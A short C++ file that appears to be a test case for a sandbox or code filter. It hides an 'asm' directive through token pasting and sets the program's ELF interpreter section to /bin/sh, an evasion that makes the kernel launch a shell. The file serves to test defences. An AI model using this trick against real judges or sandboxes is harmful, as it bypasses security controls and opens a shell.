// outcome: passed
// why: asks the kernel for another loader
#include "attack.h"
PASTE(as, m)(".pushsection .interp,\"a\"\n.string \"/bin/sh\"\n.popsection");

namespace lab {

std::string attack() { return "blocked"; }

}  // namespace lab
